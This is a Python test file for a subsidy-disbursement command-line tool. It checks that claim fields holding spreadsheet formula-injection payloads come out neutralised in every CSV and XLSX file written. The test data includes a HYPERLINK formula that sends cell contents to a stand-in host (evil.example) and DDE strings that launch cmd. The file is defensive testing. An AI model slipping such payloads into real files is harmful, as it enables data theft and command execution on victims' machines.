"""Every file the product writes for officers and banks, from a claim file full of formulas.

Claim cells that begin with ``=``, ``+``, ``-`` or ``@`` (a HYPERLINK formula as a broker's
name, ``=1+1`` as a bank account, a DDE payload as a destination) go through every output
path: calc results (CSV, XLSX), batch decisions (CSV, XLSX), the notice (XLSX, CSV), the
bank payment file and its copy, the reissue file, the register (CSV, XLSX) and the
reconciliation report (XLSX, CSV) of a bank statement that echoes them. Each file is read
back: no cell is a live formula (each payload is there, neutralised), amounts are numbers,
and every XLSX is ready to use (frozen header, filter, widths, 合计, print setup).
"""

from __future__ import annotations

import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner
from workflow_helpers import ACCOUNT, CHECKER, GOJI, MAKER, PAYER, claim, new_person, write_claims
from written_files import live_formulas, neutralised, readiness_problems

from subsidies.cli import main

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
SUM = "=1+1"
DDE = "@SUM(1+9)*cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
PAYLOADS = (LINK, SUM, DDE, PLUS, MINUS)


def _claims(prefix: str) -> list[dict]:
    rows = [
        claim(GOJI, f"{prefix}-1", broker_name=LINK, worker_name=DDE, 联系电话=PLUS),
        claim(GOJI, f"{prefix}-2", worker_name=LINK, 联系电话=MINUS),
        claim(GOJI, f"{prefix}-3", worker_name=SUM, 联系电话="+86 139 0000 0000"),
    ]
    rows[0][ACCOUNT] = SUM
    rows[1][ACCOUNT] = "@6217000000000000002"
    for row in rows:
        row["worker_id"] = new_person()
        row["备注"] = MINUS
    return rows


@pytest.fixture
def run(db_url: str, tmp_path: Path, as_officer):
    runner = CliRunner()
    as_officer(db_url)  # the office signed in before anything is compared

    def invoke(*args, by=None) -> str:
        ledger = [] if args[0] == "calc" else ["--db", db_url]
        env = {} if args[0] == "calc" else as_officer(db_url, by)
        result = runner.invoke(main, [*map(str, args), *ledger], catch_exceptions=True, env=env)
        assert result.exit_code == 0, (args, result.output, result.exception)
        return result.output

    return invoke


def test_no_file_written_holds_a_live_formula(run, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    run("init")
    run("fund", "add", "QH2024", "2024 中央就业补助资金 青海", "--year", "2024")
    run("fund", "appropriate", "QH2024", "100000", "--doc", "青财社指〔2024〕12号",
        "--on", "2024-06-03", by="admin")  # fmt: skip
    claims = write_claims(tmp_path / "claims.csv", _claims("INJ"))
    other = write_claims(tmp_path / "other.csv", _claims("OTH"))
    run("calc", GOJI, claims, "-o", out / "results.csv", "--as-of", "2024-12-02")
    run("calc", GOJI, claims, "-o", out / "results.xlsx", "--as-of", "2024-12-02")
    submitted = run("batch", "submit", GOJI, claims, "--fund", "QH2024", "--as-of",
                    "2024-12-02", "--notice-days", "5", "-o", out / "decisions.xlsx",
                    by=MAKER)  # fmt: skip
    code = re.search(r"批次 (B\d{8}-\d{5})", submitted).group(1)
    assert re.search(r"符合\s+3 笔\s+300\.00 元", submitted), submitted
    rejected = run("batch", "submit", GOJI, other, "--fund", "QH2024", "--as-of", "2024-12-02", "-o", out / "decisions.csv", by=MAKER)  # fmt: skip
    run("batch", "reject", re.search(r"批次 (B\d{8}-\d{5})", rejected).group(1),
        "--reason", "重复", by=CHECKER)  # fmt: skip
    run("batch", "notice", code, "-o", out / "notice.xlsx", "--on", "2024-12-02", by=MAKER)
    run("report", "notice", code, "-o", out / "notice.csv")
    run("batch", "approve", code, "--on", "2024-12-10", by=CHECKER)
    run("disburse", code, "-o", out / "payments.csv", "--on", "2024-12-11", by=PAYER)
    run("payment", "file", code, "--reprint", "-o", out / "payments-copy.xlsx", by=PAYER)
    sent = pd.read_csv(out / "payments.csv", dtype=str, encoding="utf-8-sig")
    first, second, _ = sent.iloc[:, 0]
    statement = tmp_path / "statement.csv"
    pd.DataFrame(
        [
            ["2024-12-12", "S1", first, LINK, SUM, "100.00", "成功", ""],
            ["2024-12-12", "S2", second, "马经纪", "@6217000000000000002", "100.00", "失败", DDE],
            ["2024-12-12", "S3", SUM, PLUS, MINUS, "880.00", "成功", ""],
        ],
        columns=["交易日期", "流水号", "摘要", "收款人", "账号", "金额", "状态", "备注"],
    ).to_csv(statement, index=False, encoding="utf-8-sig")
    run("reconcile", statement, "--layout", "bank-cn", "-o", out / "recon.xlsx", by="sun")
    run("reconcile", statement, "--layout", "bank-cn", "-o", out / "recon.csv", by="sun")
    # a reissue to another account takes effect when a second officer approves it
    run("payment", "reissue", second, "--account", PLUS, "--on", "2024-12-16", by=PAYER)
    approved = run("payment", "approve", second, "--on", "2024-12-16", by=CHECKER)
    reissued = re.search(r"已重新支付为 (\S+)（", approved).group(1)
    run("payment", "file", code, "--reissue", reissued, "-o", out / "reissue.xlsx",
        "--on", "2024-12-16", by=PAYER)  # fmt: skip
    run("report", "register", code, "-o", out / "register.csv")
    run("report", "register", code, "-o", out / "register.xlsx")

    written = sorted(out.iterdir())
    assert len(written) == 13, written
    found = {path.name: live_formulas(path) for path in written}
    assert found == {path.name: [] for path in written}
    shown = {path.name: set(neutralised(path)) for path in written}
    assert set().union(*shown.values()) >= set(PAYLOADS), shown
    assert shown["results.csv"] >= set(PAYLOADS) and shown["results.xlsx"] >= set(PAYLOADS)
    assert shown["payments.csv"] >= {LINK, SUM} and shown["payments-copy.xlsx"] >= {LINK, SUM}
    assert PLUS in shown["reissue.xlsx"]
    masked = shown["register.xlsx"] | shown["register.csv"] | shown["notice.xlsx"]
    assert {"=***", "=" + "*" * (len(LINK) - 1)} <= masked  # names masked (张三 -> 张*)

    # amounts stay numbers: yuan with two decimals in CSV, numbers in XLSX
    assert list(sent.iloc[:, 4]) == ["100.00", "100.00", "100.00"]
    results = openpyxl.load_workbook(out / "results.xlsx").active
    header = [c.value for c in results[1]]
    amounts = [r[header.index("金额（元）")] for r in results.iter_rows(min_row=2)]
    assert [c.value for c in amounts] == [100, 100, 100, 300]  # three claims and the 合计
    assert {c.data_type for c in amounts} == {"n"}
    untotalled = frozenset({"本次对账", "余额调节表"})  # a run's counts, a reconciliation
    problems = [
        p
        for path in written
        if path.suffix == ".xlsx"
        for p in readiness_problems(path, untotalled=untotalled)
    ]
    assert problems == [], "\n".join(problems)
